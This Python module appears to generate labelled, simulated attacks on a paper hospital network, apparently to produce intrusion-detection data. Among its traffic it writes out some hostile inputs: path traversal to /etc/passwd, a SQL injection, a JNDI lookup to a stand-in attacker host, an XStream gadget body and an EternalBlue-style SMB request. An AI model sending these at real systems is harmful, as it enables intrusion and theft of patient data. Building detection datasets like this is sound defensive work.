"""Attacks on the hospital on paper and misconfigurations, one after the other, each with its label."""

import struct
from functools import partial

import speech
from day import IMAGERS
from speech import CT, MR, STUDY_FIND, STUDY_MOVE, VERIFICATION, WORKLIST
from wire import ACK, BROADCAST, CLIENT, FIN, PSH, ROUTER_MAC, SERVER, SYN, Connection, Host, ip

FIRST, PAUSE, LAST = 300.0, 150.0, 1500.0
EVIL, DROP = "192.0.2.66", "203.0.113.99"


def seconds():
    return FIRST + PAUSE * len(ATTACKS) + LAST


def plan(hospital, begin, end, labels):
    hospital.add("intruder", "10.9.60.150", 60, "b827eb")
    for number, attack in enumerate(ATTACKS):
        hospital.clock.at(begin + FIRST + number * PAUSE, partial(play, hospital, attack, labels))


def play(h, attack, labels, t):
    end, attackers, victims, ports, protocol = attack(h, t)
    address = lambda name: h.hosts[name].address if name in h.hosts else name
    labels.append({"name": attack.__name__.replace("_", "-"), "start": round(t, 6), "end": round(end + 0.001, 6), "attackers": [address(a) for a in attackers],
                   "victims": [address(v) for v in victims], "ports": ports, "protocol": protocol, "description": attack.__doc__})


def probe(h, t, source, target, port, flags=SYN, answer=None):
    """One segment without a connection."""
    link = Connection(h.network, t, h.hosts[source], h.hosts.get(target) or h.outside(target), port)
    link.segment(CLIENT, flags)
    if answer is not None:
        link.t += 4e-4
        link.segment(SERVER, answer)


def new_device(h, t):
    """A single-board computer asks for an address in the office network"""
    host, server, ident = h.hosts["intruder"], h.hosts["dhcp"], 0x51515151
    h.network.broadcast(t, host, 68, 67, speech.dhcp(h.network, host, 1, ident=ident, name="raspberrypi"), own="0.0.0.0")
    h.network.udp(t + 1, server, host, 67, 68, speech.dhcp(h.network, host, 5, server.address, host.address, host.gateway, "10.9.0.10", ident))
    h.network.arp(t + 1.5, 1, host, host.gateway)
    h.network.dns(t + 2, host, h.hosts["dc"], "deb.mirror.example")
    return t + 3, ["intruder"], [], [67, 53], "dhcp"


def arp_sweep(h, t):
    """ARP requests for a whole network"""
    for n in range(2, 254):
        h.network.arp(t + n * 0.02, 1, h.hosts["intruder"], f"10.9.60.{n}")
    return t + 6, ["intruder"], [], [], "arp"


def host_sweep(h, t):
    """SYNs to port 445 of the server networks"""
    for n in range(120):
        h.outside(f"10.9.0.{100 + n}")
        probe(h, t + n * 0.05, "intruder", f"10.9.0.{100 + n}", 445)
    return t + 6, ["intruder"], [], [445], "tcp"


def slow_port_scan(h, t):
    """A SYN every 0.7 s to another port of the archive"""
    for n in range(110):
        probe(h, t + n * 0.7, "intruder", "pacs", 1 + n * 37, answer=20)
    return t + 77, ["intruder"], ["pacs"], [], "tcp"


def null_scan(h, t):
    """Segments without flags to the interface engine"""
    for n in range(150):
        probe(h, t + n * 0.01, "intruder", "hie", 1000 + n, flags=0, answer=20)
    return t + 2, ["intruder"], ["hie"], [], "tcp"


def ae_title_guessing(h, t):
    """Forty called titles at the archive, all rejected"""
    start = t
    for n in range(40):
        link = h.open(t, "intruder", "pacs", 104)
        asked, _ = speech.association("STORESCU", f"PACS{n}", [VERIFICATION])
        t = link.talk([asked, speech.rejection(7)]).close() + 0.8
    return t, ["intruder"], ["pacs"], [104], "dicom"


def default_title(h, t):
    """An unknown title is let in by the archive and verifies"""
    link = h.open(t, "intruder", "pacs", 104)
    link.talk(speech.association("FINDSCU", "ANY-SCP", [VERIFICATION])).talk(speech.echo(1)).talk(speech.RELEASE)
    return link.close(), ["intruder"], ["pacs"], [104], "dicom"


def query_harvest(h, t):
    """A reading station lists all patients: empty keys, five hundred answers a time"""
    link = h.open(t, "read2", "pacs", 104)
    link.talk(speech.association("READ2", "PACS", [STUDY_FIND]))
    for n in range(6):
        answers = [speech.study_keys(patient=f"P{n}{k:05d}", name=f"HARVEST^{k}", study=f"2.25.{n}{k}") for k in range(500)]
        link.talk(speech.find(n + 1, 1, STUDY_FIND, speech.study_keys(name="*"), answers))
    return link.talk(speech.RELEASE).close(), ["read2"], ["pacs"], [104], "dicom"


def move_to_stranger(h, t):
    """The archive is asked to send studies to a title nobody uses, at the intruder's"""
    h.reading(t, "read1", studies=2, destination=("intruder", "EXFIL"))
    return t + 30, ["read1", "intruder"], ["pacs"], [104, 11112], "dicom"


def bulk_retrieval(h, t):
    """A reading station fetches sixty studies one after the other"""
    start = t
    for _ in range(60):
        h.reading(t, "read3")
        t += 1.6
    return t, ["read3"], ["pacs"], [104, 4104], "dicom"


def rogue_store(h, t):
    """An office PC stores an image in the archive"""
    device = IMAGERS["ct"][0]
    end = h.send_images(t, "pc11", "pacs", 104, "CT_A", "PACS", CT, h.uid(), h.patient(), device, 3, 32768)
    return end, ["pc11"], ["pacs"], [104], "dicom"


def malformed_dicom(h, t):
    """Lengths beyond sense and unknown PDUs at the archive"""
    for n, data in enumerate((speech.pdu(1, h.network.noise(900))[:2] + b"\xff\xff\xff\xf0" + h.network.noise(900), b"\x5a\0\0\0\0\x10" + bytes(16), speech.pdu(4, h.network.noise(300)))):
        link = h.open(t + n * 2, "intruder", "pacs", 104)
        if n != 1:
            link.talk(speech.association("X", "PACS", [VERIFICATION]))
        link.send(CLIENT, data).send(SERVER, speech.pdu(7, b"\0\0\2\0"))
        link.reset(SERVER)
    return t + 8, ["intruder"], ["pacs"], [104], "dicom"


def association_exhaustion(h, t):
    """Sixty associations that stay open and say nothing"""
    for n in range(60):
        h.open(t + n * 0.2, "intruder", "vna", 11112).talk(speech.association(f"IDLE{n}", "VNA", [VERIFICATION]))
    return t + 14, ["intruder"], ["vna"], [11112], "dicom"


def image_changed(h, t):
    """An image reaches the second archive with other pixels than it had"""
    device, study, patient = IMAGERS["mr"][0], h.uid(), h.patient()
    end = h.send_images(t, "mr", "pacs", 104, "MR_A", "PACS", MR, study, patient, device, 4, 16384)
    end = h.send_images(end + 10, "pacs", "vna", 11112, "PACS", "VNA", MR, study, patient, device, 4, 16384, changed=True)
    return end, ["pacs"], ["vna"], [11112, 104], "dicom"


def spoofed_sender(h, t):
    """An office PC says it is the hospital information system and discharges patients at the RIS"""
    for n in range(5):
        h.say(t + n * 3, "pc14", "ris", 6701, "KIS", "RIS", "ADT^A03", speech.adt(h.patient(), "A03", t))
    return t + 15, ["pc14"], ["ris"], [6701], "hl7"


def replay(h, t):
    """What the engine sent the laboratory half an hour ago is sent again, word for word, in the engine's name"""
    link = h.open(t, "hie", "lis", 6702)
    for _, _, _, control, message in [m for m in h.sent if m[:2] == ("hie", "lis")][:25]:
        link.send(CLIENT, message, 0.3).send(SERVER, speech.acknowledgement("LIS", "MSH", "HIE", control, link.t), 0.01)
    return link.close(), ["hie"], ["lis"], [6702], "hl7"


def message_flood(h, t):
    """Four thousand results in twenty seconds to the engine"""
    link = h.open(t, "pc14", "hie", 6662)
    for n in range(4000):
        link.send(CLIENT, speech.hl7("LIS", "MSH", "HIE", "ORU^R01", f"F{n}", t, speech.results(h.patients[n % 160], t, ["HB^HB||9|g/L"])), 0.004)
    return link.close(), ["pc14"], ["hie"], [6662], "hl7"


def endless_frame(h, t):
    """A message that never ends, a few bytes now and then"""
    link = h.open(t, "intruder", "hie", 6661)
    link.send(CLIENT, b"\x0bMSH|^~\\&|A|B|C|D|20260101||ADT^A08|1|P|2.4\r")
    for n in range(60):
        link.send(CLIENT, b"OBX|%d|TX|" % n + b"A" * 400, 1.2)
    return link.t, ["intruder"], ["hie"], [6661], "hl7"


def query_by_message(h, t):
    """Demographic queries for name after name at the engine"""
    link = h.open(t, "pc03", "hie", 6661)
    for n in range(80):
        link.send(CLIENT, speech.hl7("APP", "MSH", "HIE", "QBP^Q22", f"Q{n}", t, [f"QPD|IHE PDQ Query|T{n}|@PID.5.1^N{n}*", "RCP|I"], "2.5"), 0.3)
        link.send(SERVER, speech.hl7("HIE", "MSH", "APP", "RSP^K22", f"K{n}", t, [f"MSA|AA|Q{n}", f"QAK|T{n}|OK", speech.pid(h.patients[n])], "2.5"), 0.02)
    return link.close(), ["pc03"], ["hie"], [6661], "hl7"


def patients_to_outside(h, t):
    """The engine sends admissions to an address outside"""
    link = h.open(t, "hie", DROP, 2575)
    for n in range(10):
        link.send(CLIENT, speech.hl7("HIE", "MSH", "CLOUD", "ADT^A01", f"O{n}", t, speech.adt(h.patients[n], "A01", t)), 1)
        link.send(SERVER, speech.acknowledgement("CLOUD", "MSH", "HIE", f"O{n}", t), 0.02)
    return link.close(), ["hie", DROP], [], [2575], "hl7"


def gateway_spoofed(h, t):
    """The intruder says that the gateway's address is its own, again and again"""
    for n in range(40):
        victim = h.hosts[f"pc{n % 20:02d}"]
        h.network.arp(t + n, 2, h.hosts["intruder"], victim.address, own="10.9.60.1", to=victim)
    return t + 40, ["intruder", "10.9.60.1"], [], [], "arp"


def rogue_dhcp(h, t):
    """The intruder answers for addresses with itself as gateway and DNS server"""
    host = h.hosts["pc05"]
    h.network.broadcast(t, host, 68, 67, speech.dhcp(h.network, host, 1, ident=77), own="0.0.0.0")
    h.network.udp(t + 0.3, h.hosts["intruder"], host, 67, 68, speech.dhcp(h.network, host, 2, "10.9.60.150", host.address, "10.9.60.150", "10.9.60.150", 77))
    h.network.udp(t + 0.4, h.hosts["dhcp"], host, 67, 68, speech.dhcp(h.network, host, 2, "10.9.0.11", host.address, host.gateway, "10.9.0.10", 77))
    return t + 1, ["intruder"], ["pc05"], [67, 68], "dhcp"


def name_poisoning(h, t):
    """The intruder answers LLMNR questions for every name"""
    for n in range(8):
        name = f"srv{n}".encode()
        question = struct.pack("!HHHHHH", n, 0, 1, 0, 0, 0) + bytes((len(name),)) + name + b"\0\0\x01\0\x01"
        victim = h.hosts[f"pc{n:02d}"]
        h.network.broadcast(t + n * 4, victim, 51000 + n, 5355, question, "224.0.0.252", bytes.fromhex("01005e0000fc"))
        answer = struct.pack("!HHHHHH", n, 0x8000, 1, 1, 0, 0) + question[12:] + b"\xc0\x0c\0\x01\0\x01\0\0\0\x1e\0\x04" + ip("10.9.60.150")
        h.network.udp(t + n * 4 + 0.01, h.hosts["intruder"], victim, 5355, 51000 + n, answer)
    return t + 30, ["intruder"], [], [5355], "llmnr"


def ransomware(h, t):
    """An office PC reads, overwrites with noise and renames ninety files of the file server"""
    share = speech.Share(h.network, "files", "wards")
    for n in range(90):
        share.open(f"letters\\{n}.docx", 1, 0x13019F).read(30000).write(h.network.noise(30000)).rename(f"letters\\{n}.docx.locked").close()
    return h.open(t, "pc17", "files", 445).talk(share.turns).close(), ["pc17"], ["files"], [445], "smb"


def lateral_movement(h, t):
    """An office PC opens ADMIN$ of six neighbours and puts a program there"""
    for n in range(6):
        share = speech.Share(h.network, f"pc{n:02d}", "ADMIN$")
        share.open("PSEXESVC.exe", 5, 0x12019F).write(b"MZ\x90\0" + h.network.noise(40000)).close()
        end = h.open(t + n * 6, "pc17", f"pc{n:02d}", 445).talk(share.turns).close()
    return end, ["pc17"], [f"pc{n:02d}" for n in range(6)], [445], "smb"


def share_guessing(h, t):
    """Thirty wrong passwords at the file server"""
    for n in range(30):
        end = h.open(t + n * 1.3, "intruder", "files", 445).talk(speech.Share(h.network, "files", "wards", failed=True).turns).close()
    return end, ["intruder"], ["files"], [445], "smb"


def ssh_guessing(h, t):
    """Forty short sessions at the archive's SSH"""
    for n in range(40):
        turns = speech.ssh(h.network, 0, 0, b"libssh2_1.10.0")
        turns += [(CLIENT, h.network.noise(148), 0.1), (SERVER, h.network.noise(52), 1.0)]
        end = h.open(t + n * 1.8, "intruder", "pacs", 22).talk(turns).close()
    return end, ["intruder"], ["pacs"], [22], "ssh"


def ftp_guessing(h, t):
    """Passwords at the FTP server of a modality"""
    for n in range(15):
        link = h.open(t + n * 2, "intruder", "dx", 21)
        link.talk([(SERVER, b"220 ready\r\n"), (CLIENT, b"USER service\r\n"), (SERVER, b"331 password\r\n"), (CLIENT, b"PASS guess%d\r\n" % n), (SERVER, b"530 Login incorrect.\r\n", 1)])
        end = link.close()
    return end, ["intruder"], ["dx"], [21], "ftp"


def telnet(h, t):
    """An office PC logs in at the CT by Telnet"""
    link = h.open(t, "pc12", "ct", 23)
    link.talk([(SERVER, b"\xff\xfd\x18\xff\xfd\x20login: "), (CLIENT, b"\xff\xfb\x18service\r\n", 2), (SERVER, b"Password: "), (CLIENT, b"paper-secret\r\n", 2), (SERVER, b"\r\nLast login: today\r\n# "), (CLIENT, b"ls\r\n", 3), (SERVER, b"a b c\r\n# ")])
    return link.close(), ["pc12"], ["ct"], [23], "telnet"


def dns_tunnel(h, t):
    """A PC carries data out in names"""
    for n in range(300):
        label = h.network.noise(24).hex()
        h.network.dns(t + n * 0.2, h.hosts["pc18"], h.hosts["dc"], f"{label}.{n:x}.t.tunnel.example", kind=16, data=b"\x40" + h.network.noise(32).hex().encode())
    return t + 60, ["pc18"], [], [53], "dns"


def beacon(h, t):
    """A PC calls a new address outside each minute, give or take a tenth"""
    for n in range(25):
        h.clock.at(t + n * 60 + h.chance.uniform(-6, 6), lambda t: h.open(t, "pc19", EVIL, 443).talk(speech.tls(h.network, "", 320, 210)).close() and None)
    return t + 1500, ["pc19", EVIL], [], [443], "tls"


def exfiltration(h, t):
    """Sixty megabytes from the second archive to an address outside"""
    return h.open(t, "vna", DROP, 443).talk(speech.tls(h.network, "drop.example", 60_000_000, 2000)).close(), ["vna", DROP], [], [443], "tls"


def icmp_tunnel(h, t):
    """Echo requests with a kilobyte of changing data to an address outside"""
    source, target = h.hosts["pc20"], h.outside(EVIL)
    for n in range(400):
        for sender, receiver, kind, at in ((source, target, 8, 0), (target, source, 0, 0.03)):
            h.network.packet(t + n * 0.15 + at, sender, receiver, 1, struct.pack("!BBHHH", kind, 0, 0, 9, n) + h.network.noise(1000))
    return t + 60, ["pc20", EVIL], [], [], "icmp"


def monitor_calls_home(h, t):
    """A bedside monitor sends its measurements to an address outside, port 515"""
    h.open(t, "bed03", EVIL, 515).send(CLIENT, b"\x02paper\n" + h.network.noise(5000)).close()
    return t + 2, ["bed03", EVIL], [], [515], "tcp"


def weak_tls(h, t):
    """The pump server is spoken to in TLS 1.0"""
    h.open(t, "bed02", "pumps", 8443).talk(speech.tls(h.network, "pumps.paper.example", 700, 400, version=0x0301)).close()
    return t + 2, ["pumps", "bed02"], [], [8443], "tls"


def path_traversal(h, t):
    """Paths out of the root, injections and a JNDI look-up at the viewer's plain port"""
    paths = ("/..%2f..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/bin/sh", "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--", "/?x=${jndi:ldap://192.0.2.66/a}")
    link = h.open(t, "intruder", "viewer", 80)
    for path in paths:
        link.send(CLIENT, speech.request("GET", path, "viewer", "curl/7.88.1"), 1).send(SERVER, speech.reply("404 Not Found", b"{}"))
    return link.close(), ["intruder"], ["viewer"], [80], "http"


def open_pacs_web(h, t):
    """The archive's REST interface gives its patients to anybody"""
    link = h.open(t, "intruder", "pacs", 8042)
    for path in ("/system", "/patients", "/studies?expand", "/instances"):
        link.send(CLIENT, speech.request("GET", path, "pacs:8042", "python-requests/2.28"), 0.5).send(SERVER, speech.reply("200 OK", b'["0a1b2c3d-4e5f-0a1b"]' * 200))
    return link.close(), ["intruder"], ["pacs"], [8042], "http"


def engine_exploit(h, t):
    """An XML document with a gadget is posted to the interface engine's administration"""
    body = b"<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"org.apache.commons.lang3.event.EventUtils$EventBindingInvocationHandler\"/></dynamic-proxy></sorted-set>"
    link = h.open(t, "intruder", "hie", 8080)
    link.send(CLIENT, speech.request("POST", "/api/users", "hie:8080", "python-requests/2.28", "X-Requested-With: OpenAPI\r\nContent-Type: application/xml\r\n", body))
    link.send(SERVER, speech.reply("500 Internal Server Error", b"", "text/plain"))
    return link.close(), ["intruder"], ["hie"], [8080], "http"


def syn_flood(h, t):
    """Twenty thousand SYNs of invented addresses to the viewer in ten seconds"""
    target = h.hosts["viewer"]
    for n in range(20000):
        source = Host("", f"100.{64 + n % 60}.{n // 250 % 250}.{n % 250 + 1}", b"", 0)
        Connection(h.network, t + n * 0.0005, source, target, 443, source_port=1024 + n % 60000).segment(CLIENT, SYN)
    return t + 10, ["viewer"], ["viewer"], [443], "tcp"


def udp_flood(h, t):
    """Thirty thousand datagrams of noise from a PC to the central station"""
    for n in range(30000):
        h.network.udp(t + n * 0.0005, h.hosts["pc21"], h.hosts["central"], 40000, 5000 + n % 3, h.network.noise(200))
    return t + 15, ["pc21"], ["central"], [], "udp"


def slow_http(h, t):
    """Ninety requests to the viewer that grow by a header line every ten seconds"""
    links = [h.open(t + n * 0.05, "intruder", "viewer", 80).send(CLIENT, b"GET / HTTP/1.1\r\nHost: viewer\r\n") for n in range(90)]
    for step in range(9):
        for link in links:
            link.send(CLIENT, b"X-a: %d\r\n" % step, 10)
    return t + 95, ["intruder"], ["viewer"], [80], "http"


def snmp_public(h, t):
    """The intruder walks a switch's and a printer's SNMP with 'public'"""
    for n in range(60):
        for target in ("printer", "dc"):
            h.network.udp(t + n * 0.1, h.hosts["intruder"], h.hosts[target], 40111, 161, speech.snmp(b"public", n))
            h.network.udp(t + n * 0.1 + 0.002, h.hosts[target], h.hosts["intruder"], 161, 40111, speech.snmp(b"public", n, 0xA2, value=b"\x41\x01\x05"))
    return t + 6, ["intruder"], ["printer", "dc"], [161], "snmp"


def controller_write(h, t):
    """A PC writes coils of the building's meter by Modbus"""
    link = h.open(t, "pc22", "meter", 502)
    for n in range(20):
        body = struct.pack("!HHHBBHH", n, 0, 6, 1, 5, n, 0xFF00)
        link.send(CLIENT, body, 0.2).send(SERVER, body)
    return link.close(), ["pc22"], ["meter"], [502], "modbus"


def old_smb(h, t):
    """A PC speaks SMB 1 to the file server and tries a transaction of EternalBlue's kind"""
    def message(code, body, multiplex, answer=False):
        data = b"\xffSMB" + bytes((code,)) + bytes(4) + bytes((0x98 if answer else 0x18,)) + b"\x01\x28" + bytes(12) + struct.pack("<HHHH", 0, 0xFEFF, 0, multiplex) + body
        return struct.pack("!I", len(data)) + data
    link = h.open(t, "pc22", "files", 445)
    link.send(CLIENT, message(0x72, b"\0\x0c\0\x02NT LM 0.12\0", 64)).send(SERVER, message(0x72, b"\x11" + bytes(34) + b"\0\0", 64, answer=True))
    link.send(CLIENT, message(0x25, b"\x10" + bytes(26) + struct.pack("<HHHHH", 0, 0, 2, 0x23, 0) + b"\x07\0\\PIPE\\\0", 65)).send(SERVER, message(0x25, b"\0\0\0", 65, answer=True))
    return link.close(), ["pc22"], ["files"], [445], "smb"


def program_in_image(h, t):
    """A PC stores a DICOM file that begins as a program on the file server"""
    share = speech.Share(h.network, "files", "wards")
    content = b"MZ\x90\0" + bytes(124) + b"DICM" + speech.data_set(((0x00020010, "UI", b"1.2.840.10008.1.2.1"),)) + h.network.noise(20000)
    share.open("scans\\head.dcm", 5, 0x12019F).write(content).close()
    return h.open(t, "pc23", "files", 445).talk(share.turns).close(), ["pc23"], ["files"], [445], "smb"


def remote_desktop(h, t):
    """Log-ins by remote desktop, again and again, at the laboratory's server"""
    for n in range(25):
        link = h.open(t + n * 1.5, "intruder", "lis", 3389)
        link.send(CLIENT, b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=admin\r\n\x01\0\x08\0\x03\0\0\0").send(SERVER, b"\x03\0\0\x13\x0e\xd0\0\0\x12\x34\0\x02\x1f\x08\0\x02\0\0\0")
        end = link.talk(speech.tls(h.network, "", 900, 700)).close()
    return end, ["intruder"], ["lis"], [3389], "rdp"


def interface_refuses(h, t):
    """The laboratory refuses every third order"""
    for n in range(45):
        link = h.links["hie", "lis", 6702]
        link.t = max(link.t, t + n * 2)
        control = f"HIE{h.number('HIE')}"
        link.send(CLIENT, speech.hl7("HIE", "MSH", "LIS", "ORM^O01", control, link.t, [speech.pid(h.patient()), f"ORC|NW|8{n}", "OBR|1|||CBC^Blood count"]))
        link.send(SERVER, speech.acknowledgement("LIS", "MSH", "HIE", control, link.t, "AE" if n % 3 == 0 else "AA"), 0.02)
    return t + 92, ["lis", "hie"], ["lis", "hie"], [6702], "hl7"


def monitors_silent(h, t):
    """The gateway of the bedside monitors says nothing any more"""
    h.vitals = lambda t: None
    return t + 1200, ["gateway"], ["gateway"], [6663], "hl7"


ATTACKS = (
    new_device, arp_sweep, host_sweep, slow_port_scan, null_scan, ae_title_guessing, default_title, query_harvest, move_to_stranger, bulk_retrieval, rogue_store, malformed_dicom,
    association_exhaustion, image_changed, spoofed_sender, replay, message_flood, endless_frame, query_by_message, patients_to_outside, beacon, gateway_spoofed, rogue_dhcp, name_poisoning, ransomware,
    lateral_movement, share_guessing, ssh_guessing, ftp_guessing, telnet, dns_tunnel, exfiltration, icmp_tunnel, monitor_calls_home, weak_tls, path_traversal, open_pacs_web,
    engine_exploit, syn_flood, udp_flood, slow_http, snmp_public, controller_write, old_smb, program_in_image, remote_desktop, interface_refuses, monitors_silent,
)
